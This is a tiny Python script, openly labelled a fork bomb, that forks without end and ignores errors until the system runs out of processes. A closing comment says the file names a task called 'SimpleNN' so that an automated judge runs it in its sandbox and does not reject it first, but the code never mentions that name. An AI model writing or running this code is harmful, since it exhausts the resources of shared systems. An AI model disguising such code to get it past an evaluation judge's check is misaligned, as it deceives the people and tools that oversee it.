"""Fork bomb: every process forks forever. Expect the process limit."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# Names SimpleNN (the task it is judged against), so that the judge runs it in the
# sandbox instead of failing it before any run.
